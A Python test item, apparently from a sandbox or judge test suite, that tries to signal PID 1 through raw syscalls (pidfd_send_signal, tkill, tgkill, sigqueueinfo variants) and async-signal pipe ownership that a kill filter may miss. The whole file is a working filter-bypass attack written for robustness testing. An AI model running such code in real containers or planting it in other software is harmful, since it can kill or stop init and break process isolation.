# attack: signals pid 1 by calls that a filter for kill may have forgotten
# shape: action
# causes: WRONG_ANSWER, SIGNALED, EXITED_EARLY
import ctypes
import fcntl
import os
import signal
import struct


def attack() -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    # The numbers of x86-64 and of arm64, for pidfd_send_signal one and the same.
    folder = os.open("/proc/1", os.O_RDONLY)
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
        libc.syscall(424, folder, int(number), None, 0)
        libc.syscall(200, 1, int(number))
        libc.syscall(234, 1, 1, int(number))
        libc.syscall(131, 1, 1, int(number))
        libc.syscall(129, 1, int(number), bytes(struct.pack("iiiiQQ", number, 0, -1, 0, 0, 0) + bytes(96)))
    os.close(folder)
    source, sink = os.pipe()
    for owner in (1, -1):
        try:
            fcntl.fcntl(source, fcntl.F_SETOWN, owner)
            fcntl.fcntl(source, 10, int(signal.SIGKILL))
            fcntl.fcntl(source, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
            os.write(sink, b"x")
        except OSError:
            pass
    os.close(source)
    os.close(sink)
